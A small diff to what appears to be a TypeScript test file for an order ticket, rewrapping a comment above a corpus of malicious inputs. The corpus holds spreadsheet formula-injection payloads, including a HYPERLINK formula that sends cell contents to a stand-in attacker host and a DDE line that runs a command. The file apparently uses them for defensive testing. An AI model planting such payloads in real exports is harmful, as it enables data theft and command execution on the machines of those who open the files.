@@ -31,7 +31,9 @@ const order = (written: string) =>
     { userData: { name: written }, cartData: { obs: written } },
   );
 
-/** What a spreadsheet would calculate, what turns the text around it, and what passes for lines of the ticket's own. */
+/**
+ * Texts that a spreadsheet would calculate, that turn the text around them, or that pass for lines of the ticket's own.
+ */
 const corpus = [
   '=HYPERLINK("http://evil.example/?"&A1,"Total")',
   "=cmd|' /C calc'!A0",
